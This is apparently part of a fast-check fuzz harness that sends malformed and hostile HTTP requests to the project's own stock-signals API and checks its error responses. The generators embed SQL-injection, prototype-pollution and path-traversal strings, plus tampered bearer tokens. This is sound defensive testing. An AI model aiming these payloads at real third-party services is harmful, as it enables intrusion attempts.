  const extra = fc.oneof(
    { weight: 10, arbitrary: fc.constant([] as Array<string>) },
    {
      weight: 2,
      arbitrary: fc.array(
        fc.oneof(
          fc
            .tuple(
              fc.oneof(
                fc.constantFrom(...declared.map((p) => p.name), "q"),
                fc.constantFrom("__proto__", "constructor", "constructor[prototype][x]", "q[]", "limit[]", "a[b]"),
                fc.string({ maxLength: 10 })
              ),
              fc.oneof(hostileString, fc.constantFrom("1", "true"))
            )
            .map(([k, v]) => `${pct(k)}=${pct(v)}`),
          fc.constantFrom("&", "=", "==", "a", "a=%ZZ", "q=price+%3E+1", "q", "limit=1&limit=2", "%00=%00", "&&&")
        ),
        { minLength: 1, maxLength: 4 }
      )
    }
  )
  return fc.tuple(fc.tuple(...pairs), extra).map(([given, more]) => {
    const all = [...given.filter((x): x is string => x !== null), ...more]
    return all.length === 0 ? "" : `?${all.join("&")}`
  })
}

const authHeader = (route: Route, target: Target): fc.Arbitrary<string | undefined> => {
  const bogus = fc.oneof(
    fc.constantFrom(
      "Bearer",
      "Bearer ",
      "bearer",
      "Basic dXNlcjpwYXNz",
      "Bearer vigil_test_",
      "Bearer vigil_live_x",
      `Bearer vigil_test_${"A".repeat(43)}`,
      `Bearer ${"x".repeat(8_000)}`,
      "Bearer \u00ff\u00fe",
      `Bearer ${target.keys.enterprise} extra`,
      `Bearer  ${target.keys.enterprise}`,
      `Bearer ${target.keys.enterprise.toUpperCase()}`,
      `Bearer ${target.keys.enterprise.slice(0, -1)}`,
      `Bearer ${ADMIN_TOKEN}`,
      "Bearer ' OR 1=1 --",
      "Token abc"
    ),
    fc.string({ maxLength: 60 }).map((s) => `Bearer ${s.replace(/[^\x20-\x7e]/g, "")}`)
  )
  const key = (name: KeyName) => `Bearer ${target.keys[name]}`
  if (route.security === "admin") {
    return fc.oneof(
      { weight: 6, arbitrary: fc.constant(`Bearer ${ADMIN_TOKEN}`) },
      { weight: 1, arbitrary: fc.constant(undefined) },
      { weight: 1, arbitrary: fc.constant(key("enterprise")) },
      { weight: 2, arbitrary: bogus }
    )
  }
  return fc.oneof(
    { weight: 40, arbitrary: fc.constant(key("enterprise")) },
    { weight: 4, arbitrary: fc.constant(key("scale")) },
    { weight: 5, arbitrary: fc.constant(key("pro")) },
    { weight: 3, arbitrary: fc.constant(key("hobby")) },
    { weight: 2, arbitrary: fc.constant(key("free")) },
    { weight: 2, arbitrary: fc.constant(key("none")) },
    { weight: 2, arbitrary: fc.constant(undefined) },
    { weight: 3, arbitrary: bogus }
  )
}

const CONTENT_TYPES = [
  "text/plain",
  "application/json; charset=utf-16",
  "application/json; charset=latin1",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=xyz",
  "application/xml",
  "application/json, text/plain",
  "APPLICATION/JSON",
  "application/merge-patch+json",
  "*/*",
  ";;;",
  "application/json; boundary=\u00ff"
]

/** Bodies that are not a JSON object: broken, deep, huge, binary, other types. */
const rawBody: fc.Arbitrary<string | Uint8Array | { stream: number }> = fc.oneof(
  {
    weight: 12,
    arbitrary: fc.constantFrom(
      "",
      " ",
      "null",
      "true",
      "0",
      "[]",
      '"x"',
      "{",
      '{"a"',
      "}",
      "{}{}",
      '{"q": "price > 1",}',
      "{'q': 1}",
      '{"q": NaN}',
      '{"q": "\\ud800"}',
      '{"q": "\\u0000"}',
      "\ufeff{}",
      '{"a":1,"a":2}',
      '{"__proto__": {"fz_polluted": true}}',
      '{"constructor": {"prototype": {"fz_polluted": true}}}',
      "1".repeat(1_000),
      "1e999999",
      "-",
      "q=price+%3E+1&limit=5",
      "<xml/>"
    )
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        fc.oneof(
          { weight: 6, arbitrary: fc.constantFrom(65, 1_000, 10_000) },
          { weight: 1, arbitrary: fc.constant(200_000) }
        ),
        fc.constantFrom("array", "object", "inProp", "unclosed")
      )
      .map(([n, kind]) => {
        switch (kind) {
          case "array":
            return `${"[".repeat(n)}${"]".repeat(n)}`
          case "object":
            return `${'{"a":'.repeat(n)}1${"}".repeat(n)}`
          case "inProp":
            return `{"q":"price > 1","tickers":${"[".repeat(n)}${"]".repeat(n)},"name":"x","expr":"price > 1"}`
          default:
            return "[".repeat(n)
        }
      })
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(1_048_000, 1_048_577, 1_100_000).map((n) => `{"q":"${"a".repeat(Math.max(0, n - 8))}"}`)
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(1_000, 10_000, 10_000, 100_000)
      .map((n) => `{"tickers":[${Array.from({ length: n }, () => '"AAPL"').join(",")}],"name":"big"}`)
  },
  { weight: 2, arbitrary: fc.uint8Array({ maxLength: 200 }) },
  { weight: 1, arbitrary: fc.constant(Uint8Array.from([0x7b, 0x22, 0x71, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d])) },
  { weight: 1, arbitrary: fc.constantFrom(100_000, 1_500_000).map((stream) => ({ stream })) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 100 }) }
)

const csvBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    "Date,Open,High,Low,Close,Volume\n",
    "Date,Open,High,Low,Close,Volume\n2026-01-02,1,2,0.5,NaN,100\n",
    "Date,Open,High,Low,Close,Volume\n2026-13-45,1,2,0.5,1,100\n",
    "Date,Open,High,Low,Close,Volume\n2026-01-02,-1,-2,-3,-4,-5\n",
    "Date,Open,High,Low,Close,Volume\n2026-01-02,1e400,1e400,1e400,1e400,1e400\n",
    'timestamp,open,high,low,close,volume\n"2026-01-02,1,2,0.5,1,100\n',
    "ticker,date,close\nAAPL,2026-01-02,abc\n",
    `Date,Open,High,Low,Close,Volume\n${"9".repeat(100_000)}\n`,
    "\u0000\u0000\u0000",
    "Date".repeat(50_000)
  ),
  fc.string({ unit: "binary", maxLength: 300 }),
  fc
    .array(fc.tuple(dates, numberish, numberish), { maxLength: 5 })
    .map(
      (rows) =>
        `Date,Open,High,Low,Close,Volume\n${rows.map(([d, a, b]) => `${d},${a},${b},${a},${b},${a}`).join("\n")}`
    )
)

const OTHER_METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "PROPFIND", "TRACE"]

/** Occasional extra headers: hostile request ids, idempotency keys, odd accepts, 64 KB+ headers. */
const extraHeaders = (route: Route): fc.Arbitrary<Record<string, string>> =>
  fc.oneof(
    { weight: 30, arbitrary: fc.constant({}) },
    {
      weight: 2,
      arbitrary: fc
        .oneof(
          fc.constantFrom("req_fuzz_1", "a".repeat(64), "a".repeat(65), "bad id with spaces", "../../x", "\u00ff"),
          fc.string({ maxLength: 80 }).map((s) => s.replace(/[^\x20-\x7e]/g, "x"))
        )
        .map((id) => ({ "x-request-id": id }))
    },
    {
      weight: route.method === "POST" ? 3 : 1,
      arbitrary: fc
        .oneof(fc.constantFrom("fz-key-1", "fz-key-2", "fz-key-3", "", "k".repeat(256), "\u00e9"), fc.uuid())
        .map((k) => ({ "idempotency-key": k }))
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom("text/html", "application/xml", "*/*;q=0", "", "application/json;q=abc")
        .map((a) => ({ accept: a }))
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom("gzip", "br", "deflate", "identity, gzip", "x-unknown").map((e) => ({
        "content-encoding": e
      }))
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom("x-fuzz", "cookie", "authorization-extra", "accept", "user-agent", "referer"),
          fc.constantFrom(15_000, 17_000, 65_536, 70_000)
        )
        .map(([h, n]) => ({ [h]: "h".repeat(n) }))
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(100, 500, 2_000)
        .map((n) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`x-fz-${i}`, "v".repeat(20)])))
    }
  )

const routeCase = (route: Route, target: Target): fc.Arbitrary<FuzzCase> => {
  const label = `${route.method} ${route.path}`
  const segments = route.path.split("/").map((seg) => {
    const m = /^\{(.+)\}$/.exec(seg)
    return m === null ? fc.constant(seg) : pathValue(m[1]!, target, label)
  })
  const path = fc.tuple(...segments).map((parts) => parts.join("/"))
  const jsonRoute = route.body !== undefined
  const body: fc.Arbitrary<{ body?: string | Uint8Array | { stream: number }; type?: string }> = route.rawBody
    ? fc.oneof(
        { weight: 5, arbitrary: csvBody.map((b) => ({ body: b, type: "text/csv" })) },
        { weight: 1, arbitrary: rawBody.map((b) => ({ body: b })) }
      )
    : jsonRoute
      ? fc.oneof(
          { weight: 12, arbitrary: bodyObject(route.body, target, label).map((o) => ({ body: JSON.stringify(o) })) },
          { weight: 3, arbitrary: rawBody.map((b) => ({ body: b })) },
          { weight: 1, arbitrary: fc.constant({}) }
        )
      : fc.oneof(
          { weight: 12, arbitrary: fc.constant({}) },
          { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }).map((v) => ({ body: JSON.stringify(v) })) },
          { weight: 1, arbitrary: rawBody.map((b) => ({ body: b })) }
        )
  const contentType = fc.oneof(
    { weight: 14, arbitrary: fc.constant<string | undefined>("application/json") },
    { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) },
    { weight: 2, arbitrary: fc.constantFrom<string | undefined>(...CONTENT_TYPES) }
  )
  const method = fc.oneof(
    { weight: 30, arbitrary: fc.constant(route.method) },
    { weight: 1, arbitrary: fc.constantFrom(...OTHER_METHODS) }
  )
  return fc
    .record({
      method,
      path,
      query: queryString(route, target, label),
      auth: authHeader(route, target),
      body,
      contentType,
      extra: extraHeaders(route)
    })
    .map(({ method, path, query, auth, body, contentType, extra }): FuzzCase => {
      const headers: Record<string, string> = { ...extra }
      if (auth !== undefined) headers.authorization = auth
      const hasBody = body.body !== undefined && method !== "HEAD" && method !== "GET"
      if (hasBody) {
        const type = body.type ?? contentType
        if (type !== undefined) headers["content-type"] = type
      }
      return {
        route: label,
        method,
        path: path + query,
        headers,
        ...(hasBody ? { body: body.body } : {})
      }
    })
}

/** Requests to no route at all: unknown paths, traversal, doubled slashes, odd prefixes. */
const randomCase = (target: Target): fc.Arbitrary<FuzzCase> =>
  fc
    .record({
      method: fc.constantFrom(...OTHER_METHODS),
      segments: fc.array(
        fc.oneof(
          fc.constantFrom(
            "v2",
            "v1",
            "v3",
            "admin",
            "tickers",
            "signals",
            "webhooks",
            "universes",
            "scan",
            "openapi.json"
          ),
          rawSegment,
          hostileString.map(pct)
        ),
        { maxLength: 6 }
      ),
      prefix: fc.constantFrom("/", "//", "/v2/", "/v2//", "/./v2/", "/admin/../v2/", "/%2e/", "/docs/"),
      key: fc.constantFrom(target.keys.enterprise, "nope")
    })
    .map(({ method, segments, prefix, key }) => ({
      route: "random",
      method,
      path: prefix + segments.join("/"),
      headers: { authorization: `Bearer ${key}` }
    }))

/** Route weights: the admin refresh and import run the whole pipeline when they succeed, so they are rarer. */
const routeWeight = (route: Route): number =>
  route.path === "/admin/refresh" ? 1 : route.path === "/admin/import" ? 3 : route.security === "none" ? 4 : 10

/** One request to any route (or none), hostile or valid-ish. */
export const fuzzCase = (routes: ReadonlyArray<Route>, target: Target): fc.Arbitrary<FuzzCase> =>
  fc.oneof(...routes.map((r) => ({ weight: routeWeight(r), arbitrary: routeCase(r, target) })), {
    weight: 10,
    arbitrary: randomCase(target)
  })

// ---------------------------------------------------------------------------------------------------------------
// Sending and checking
// ---------------------------------------------------------------------------------------------------------------

export interface Outcome {
  readonly status: number | undefined
  readonly headers: Record<string, string | Array<string> | undefined>
  readonly text: string
  readonly ms: number
  readonly error?: string
}

async function* streamed(bytes: number) {
  const chunk = Buffer.alloc(64 * 1024, 0x61)
  chunk.write('{"q":"', 0)
  for (let sent = 0; sent < bytes; sent += chunk.length) yield chunk
}

export const send = async (pool: Pool, c: FuzzCase, timeoutMs: number): Promise<Outcome> => {
  const started = performance.now()
  const body =
    c.body === undefined
      ? undefined
      : typeof c.body === "object" && "stream" in c.body
        ? streamed(c.body.stream)
        : c.body
  try {
    const res = await pool.request({
      method: c.method as any,
      path: c.path,
      headers: c.headers,
      ...(body === undefined ? {} : { body: body as any }),
      headersTimeout: timeoutMs,
      bodyTimeout: timeoutMs
    })
    const text = await res.body.text()
    return { status: res.statusCode, headers: res.headers, text, ms: performance.now() - started }
  } catch (e: any) {
    return {
      status: undefined,
      headers: {},
      text: "",
      ms: performance.now() - started,
      error: `${e?.code ?? e?.name ?? "error"}: ${e?.message ?? String(e)}`
    }
  }
}

/** Bytes of the request line and headers (Node refuses more than 16 KB with 431 and closes). */
export const headBytes = (c: FuzzCase): number =>
  c.method.length + c.path.length + 11 + Object.entries(c.headers).reduce((n, [k, v]) => n + k.length + v.length + 4, 0)

const SOCKET_CLOSED = /UND_ERR_SOCKET|EPIPE|ECONNRESET/

/** Errors a client or the server may legitimately raise on its own for the request (not a server fault). */
const clientSide = (c: FuzzCase, o: Outcome): boolean =>
  o.error !== undefined &&
  // undici refuses some requests before sending them (invalid header values, a path it will not send)
  (/UND_ERR_INVALID_ARG|InvalidArgumentError|UND_ERR_NOT_SUPPORTED/.test(o.error) ||
    // the server refuses a request (413 for a streamed body, 431 for its head) and closes the connection
    // while the client is still sending it: the client may see the reset before the answer
    ((headBytes(c) > 16_000 || (typeof c.body === "object" && c.body !== null && "stream" in c.body)) &&
      SOCKET_CLOSED.test(o.error)))

const REQUEST_ID = /^req_[A-Za-z0-9_-]+$/

/** The spec's one 501: channel `slack` (`code` is the error envelope's). */
export const isDocumented501 = (status: number, code: unknown): boolean =>
  status === 501 && code === "channel_not_implemented"

/** What is wrong with the answer to a case, if anything. */
export const violation = (c: FuzzCase, o: Outcome): string | undefined => {
  if (o.status === undefined) {
    if (clientSide(c, o)) return undefined
    return `no answer (${o.error}) after ${Math.round(o.ms)} ms`
  }
  // Node trims header values
  const sentId = c.headers["x-request-id"]?.trim()
  const idOk = (id: unknown) => typeof id === "string" && (id === sentId || REQUEST_ID.test(id))
  if (o.status >= 500) {
    // documented: the flag history's endpoints and the admin's refresh and import while they wait; any read
    // of the years before the window while the whole market's history is (re)built — after a first start,
    // or after an import of bars it reads (the fuzz imports some)
    const documented503 =
      o.status === 503 &&
      o.headers["retry-after"] !== undefined &&
      (/^(GET \/v2\/signals\/\{name\}\/(stats|\{ticker\}\/events)|POST \/admin\/(refresh|import))$/.test(c.route) ||
        /"code":"service_unavailable","message":"the whole market's daily history before \d{4}-\d{2}-\d{2} is being built/.test(
          o.text
        ))
    const documented501 = isDocumented501(o.status, /"code":"([a-z_]+)"/.exec(o.text)?.[1])
    if (!documented503 && !documented501) return `status ${o.status}: ${o.text.slice(0, 300)}`
  }
  if (o.status >= 400 && c.method !== "HEAD") {
    let body: any
    try {
      body = JSON.parse(o.text)
    } catch {
      return `status ${o.status} without a JSON body: ${JSON.stringify(o.text.slice(0, 200))}`
    }
    const type = String(o.headers["content-type"] ?? "")
    if (!type.startsWith("application/json")) return `status ${o.status} with content-type ${type}`
    const e = body?.error
    if (typeof e === "string") {
      // the spec's delete-refusal variant: `error` is the code, `message` and details at the top level
      if (o.status !== 409 || typeof body.message !== "string" || !idOk(body.request_id)) {
        return `status ${o.status} with a string error that is not the delete refusal: ${o.text.slice(0, 300)}`
      }
      return undefined
    }
    if (
      e === null ||
      typeof e !== "object" ||
      typeof e.code !== "string" ||
      e.code.length === 0 ||
      typeof e.message !== "string" ||
      e.message.length === 0 ||
      !idOk(e.request_id)
    ) {
      return `status ${o.status} without the error envelope: ${o.text.slice(0, 300)}`
    }
    if (o.headers["x-request-id"] !== e.request_id) {
      return `x-request-id header ${String(o.headers["x-request-id"])} differs from the body's ${e.request_id}`
    }
  }
  return undefined
}

/** A short description of a case, to reproduce it by hand. */
export const describeCase = (c: FuzzCase): string => {
  const body =
    c.body === undefined
      ? ""
      : typeof c.body === "string"
        ? ` body(${c.body.length}) ${JSON.stringify(c.body.slice(0, 300))}`
        : c.body instanceof Uint8Array
          ? ` body(bytes ${c.body.length}) ${Buffer.from(c.body).toString("hex").slice(0, 200)}`
          : ` body(streamed ${c.body.stream} bytes)`
  const headers = Object.entries(c.headers)
    .map(([k, v]) => `${k}: ${v.length > 120 ? `${v.slice(0, 60)}…(${v.length})` : v}`)
    .join("; ")
  const path = c.path.length > 400 ? `${c.path.slice(0, 400)}…(${c.path.length})` : c.path
  return `[${c.route}] ${c.method} ${path} {${headers}}${body}`
}

// ---------------------------------------------------------------------------------------------------------------
// Running
// ---------------------------------------------------------------------------------------------------------------

export interface Stats {
  cases: number
  readonly statuses: Map<string, number>
  readonly routes: Map<string, number>
  readonly latencies: Array<number>
  /** milliseconds spent per route, to see where the time goes */
  readonly routeMs: Map<string, number>
  readonly failures: Array<string>
}

export const newStats = (): Stats => ({
  cases: 0,
  statuses: new Map(),
  routes: new Map(),
  latencies: [],
  routeMs: new Map(),
  failures: []
})

const bump = (m: Map<string, number>, k: string) => m.set(k, (m.get(k) ?? 0) + 1)

export interface RunOptions {
  readonly routes: ReadonlyArray<Route>
  readonly target: Target
  readonly cases: number
  readonly seed: number
  readonly concurrency: number
  readonly timeoutMs: number
  /** shrink a failing case to a smaller one (slower; off in CI) */
  readonly shrink: boolean
  readonly stats: Stats
  /** called with each failure as it is found */
  readonly onFailure?: (report: string) => void
}

/**
 * Runs `cases` requests through `concurrency` fast-check runners, each with
 * its own seed (`seed + i`), over one keep-alive connection pool. A failing
 * runner reports its seed, counterexample path and case (rerun it with
 * `--seed <s> --path <p>`), and the next runner picks up the remaining cases
 * with a fresh seed, so a long run reports every distinct failure it meets.
 */
export const runFuzz = async (options: RunOptions): Promise<void> => {
  const { routes, target, stats } = options
  const pool = new Pool(target.url, { connections: options.concurrency, pipelining: 1 })
  const arbitrary = fuzzCase(routes, target)
  const property = fc.asyncProperty(arbitrary, async (c) => {
    const outcome = await send(pool, c, options.timeoutMs)
    stats.cases++
    bump(
      stats.statuses,
      outcome.status === undefined ? (outcome.error ?? "error").split(":")[0]! : String(outcome.status)
    )
    bump(stats.routes, c.route)
    stats.latencies.push(outcome.ms)
    stats.routeMs.set(c.route, (stats.routeMs.get(c.route) ?? 0) + outcome.ms)
    const problem = violation(c, outcome)
    if (problem !== undefined) throw new Error(`${problem}\n    request: ${describeCase(c)}`)
  })
  let remaining = options.cases
  let nextSeed = options.seed
  const worker = async () => {
    while (remaining > 0) {
      const runs = Math.min(remaining, Math.ceil(options.cases / options.concurrency))
      remaining -= runs
      const seed = nextSeed++
      const details = await fc
        .check(property, { seed, numRuns: runs, endOnFailure: !options.shrink })
        .catch((e: unknown) => {
          // a fault of the harness itself (e.g. a generator), not of the server: report it and stop
          remaining = 0
          stats.failures.push(`seed ${seed}: the harness failed: ${e instanceof Error ? e.stack : String(e)}`)
          return undefined
        })
      if (details === undefined) return
      if (details.failed) {
        const message =
          details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)
        const report = `seed ${details.seed} path ${details.counterexamplePath}: ${message}`
        stats.failures.push(report)
        options.onFailure?.(report)
        remaining += Math.max(0, runs - details.numRuns)
      }
    }
  }
  try {
    await Promise.all(Array.from({ length: options.concurrency }, worker))
  } finally {
    await pool.close()
  }
}

/** Replays one counterexample (seed and path from a report) and returns its failure, if it still fails. */
export const replay = async (
  routes: ReadonlyArray<Route>,
  target: Target,
  seed: number,
  path: string,
  timeoutMs: number
): Promise<string | undefined> => {
  const pool = new Pool(target.url, { connections: 1 })
  try {
    const property = fc.asyncProperty(fuzzCase(routes, target), async (c) => {
      const outcome = await send(pool, c, timeoutMs)
      const problem = violation(c, outcome)
      if (problem !== undefined) throw new Error(`${problem}\n    request: ${describeCase(c)}`)
    })
    const details = await fc.check(property, { seed, path, numRuns: 1, endOnFailure: true })
    return details.failed ? String((details.errorInstance as Error)?.message ?? details.errorInstance) : undefined
  } finally {
    await pool.close()
  }
}

export const percentile = (sorted: ReadonlyArray<number>, p: number): number =>
  sorted.length === 0 ? 0 : sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!

/** Sends raw bytes on a fresh connection and reads the answer until the server closes it (or `timeoutMs`). */
export const rawExchange = (url: string, request: string, timeoutMs = 10_000): Promise<string> =>
  new Promise((resolve, reject) => {
    const { hostname, port } = new URL(url)
    const socket = connect(Number(port), hostname)
    const chunks: Array<Buffer> = []
    const timer = setTimeout(() => {
      socket.destroy()
      reject(
        new Error(
          `no complete answer within ${timeoutMs} ms: ${Buffer.concat(chunks).toString("latin1").slice(0, 200)}`
        )
      )
    }, timeoutMs)
    socket.on("data", (d) => chunks.push(d))
    // a reset after the answer (the server closed while the request was still arriving) is fine
    socket.on("error", () => {})
    socket.on("close", () => {
      clearTimeout(timer)
      resolve(Buffer.concat(chunks).toString("latin1"))
    })
    socket.write(request)
  })
